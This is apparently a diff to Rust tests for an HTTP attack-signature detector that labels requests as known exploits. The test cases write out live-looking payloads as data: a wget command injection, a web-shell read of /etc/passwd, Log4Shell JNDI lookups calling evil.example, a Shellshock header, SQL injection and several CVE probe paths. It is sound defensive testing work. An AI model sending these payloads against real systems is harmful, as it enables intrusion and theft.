@@ -3,7 +3,11 @@ use super::*;
 fn of_target(target: &str) -> Vec<&'static str> {
     let mut signs = Signs::default();
     signs.head(target.as_bytes(), [].into_iter());
-    signs.take().iter().map(|sign| sign.rule).collect()
+    names(&signs.take())
+}
+
+fn names(signs: &[HttpSign]) -> Vec<&'static str> {
+    signs.iter().filter_map(|sign| sign.rule.strip_prefix("exploit.")).collect()
 }
 
 fn of_field(name: &str, value: &str) -> Box<[HttpSign]> {
@@ -24,7 +28,10 @@ fn targets_give_attacks_away() {
         ("/ping.cgi?ip=192.0.2.1%3Bwget%20http://198.51.100.9/x", "command_injection"),
         ("/up/shell.php?cmd=cat+/etc/passwd", "web_shell"),
         ("/?x=${${lower:j}ndi:ldap://198.51.100.9/a}", "log4shell CVE-2021-44228"),
-        ("/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", "thinkphp CVE-2018-20062"),
+        (
+            "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
+            "thinkphp CVE-2018-20062",
+        ),
         ("/vendor/phpunit/src/Util/PHP/eval-stdin.php", "phpunit CVE-2017-9841"),
         ("/autodiscover/autodiscover.json?@x.example/powershell/?X-Rps-CAT=1", "proxyshell CVE-2021-34473"),
         ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "big_ip CVE-2020-5902"),
@@ -52,7 +59,7 @@ fn ordinary_targets_give_nothing() {
 #[test]
 fn fields_give_attacks_away_with_whom_they_call() {
     let signs = of_field("User-Agent", "() { :;}; /bin/ping -c1 198.51.100.9");
-    assert_eq!((signs[0].rule, signs[0].place), ("shellshock CVE-2014-6271", "field"));
+    assert_eq!((signs[0].rule, signs[0].place), ("exploit.shellshock CVE-2014-6271", "field"));
     assert_eq!(*signs[0].callbacks, [("198.51.100.9".into(), None)]);
     let signs = of_field("X-Api", "${jndi:${lower:l}dap://evil.example:1389/a}");
     assert_eq!(*signs[0].callbacks, [("evil.example".into(), Some(1_389))]);
@@ -65,9 +72,12 @@ fn bodies_give_attacks_away() {
     let of_body = |kind: &[u8], body: &[u8], target: &str| {
         let mut signs = Signs::default();
         signs.body(kind, body, target);
-        signs.take().iter().map(|sign| sign.rule).collect::<Vec<_>>()
+        names(&signs.take())
     };
-    assert_eq!(of_body(FORM, b"uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D", "/login"), ["log4shell CVE-2021-44228"]);
+    assert_eq!(
+        of_body(FORM, b"uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D", "/login"),
+        ["log4shell CVE-2021-44228"]
+    );
     assert_eq!(of_body(FORM, b"id=1%27+or+%271%27%3D%271", "/"), ["sql_injection"]);
     let soap = b"<p:ExecuteShellCommand_INPUT xmlns:p=\"http://schemas/SCX_OperatingSystem\">";
     assert_eq!(of_body(b"application/soap+xml", soap, "/wsman"), ["omigod CVE-2021-38647"]);
